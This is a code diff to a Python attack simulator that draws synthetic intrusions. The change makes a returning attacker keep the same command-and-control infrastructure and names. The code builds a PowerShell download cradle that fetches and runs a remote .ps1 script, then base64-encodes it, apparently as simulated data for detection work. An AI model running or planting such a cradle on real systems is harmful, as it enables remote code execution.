@@ -67,6 +67,8 @@ class Intrusion:
     """Where the implants call home."""
     known: dict[str, str]
     """Places of the attacker's recipes that stay the same, such as the implant's name."""
+    owned: Random
+    """Random numbers for what is the attacker's on every day: infrastructure and tools."""
     story: Story = field(default_factory=Story)
 
     def pause(self) -> None:
@@ -173,19 +175,25 @@ class Intrusion:
 
 
 def intrude(world: World, rng: Random, actions: int, *, late: bool = False) -> Intrusion:
-    """Draw an attacker: infrastructure, names, pace, and a time that leaves room for about so many actions; `late` is towards evening."""
-    control = traffic.known(traffic.stranger(rng).name)
-    duration = rng.uniform(25, 100) * 60
+    """Draw an attacker: infrastructure, names, pace, and a time that leaves room for about so many actions; `late` is towards evening.
+
+    One that comes back on a later day has the infrastructure, names and pace of the first.
+    """
+    owned = world.returning or rng
+    control = traffic.known(traffic.stranger(owned).name)
+    duration = owned.uniform(25, 100) * 60
     duration = min(duration, world.seconds / 3)
     earliest = min(EARLIEST_SECONDS, world.seconds * 0.3)
     latest = max(earliest, world.seconds - duration * 1.15 - 300)
     earliest = earliest + (latest - earliest) * 0.8 if late else earliest
     known = {"c2": control.name, "c2ip": control.address}
     for place in ("implant", "drop", "stage", "task", "payload", "note"):
-        known[place] = fill(rng.choice([str(entry["text"]) for entry in entries("attack", place)]), dict(known), rng)
+        known[place] = fill(owned.choice([str(entry["text"]) for entry in entries("attack", place)]), dict(known), owned)
     cradle = f"IEX (New-Object Net.WebClient).DownloadString('https://{control.name}/{known['payload']}.ps1')"
     known["encoded"] = base64.b64encode(cradle.encode("utf-16-le")).decode()
-    intrusion = Intrusion(world, rng, rng.uniform(earliest, latest), duration / actions * 1.75, control, known)
+    begins = owned.uniform(earliest, latest)
+    begins = begins if owned is rng else rng.uniform(earliest, latest)
+    intrusion = Intrusion(world, rng, begins, duration / actions * 1.75, control, known, owned)
     intrusion.outside(control.address)
     intrusion.story.domains.append(control.name)
     return intrusion
